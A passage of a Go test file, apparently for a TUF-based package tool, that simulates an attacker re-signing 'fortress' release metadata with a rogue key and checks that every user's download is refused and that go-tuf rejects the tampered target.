		f.put("fortress", owners, evilKey)
		rel := f.role("fortress.releases")
		rel.Signed.Version++
		for p, b := range evilTargets {
			if strings.HasPrefix(p, "fortress/1.0.0/") || p == layout.IndexPath("fortress") {
				rel.Signed.Targets[p] = govTargetFile(b)
			}
		}
		f.put("fortress.releases", rel, evilKey)
		f.publish()

		for _, u := range users() {
			out := t.TempDir()
			r := govFail(t, u, "failed verification", "get", "fortress", "-o", out)
			govMustSay(t, "refused get", r.Stderr, "does not verify against your pinned trust")
			govEmptyDir(t, out)
			govFail(t, u, "failed verification", "get", "fortress@1.0.0", "-o", out)
			govEmptyDir(t, out)
		}
		up := g.refresh()
		if info, err := up.GetTargetInfo("fortress/1.0.0/" + file); err == nil {
			t.Fatalf("go-tuf trusts %v", info)
		}
	})
}
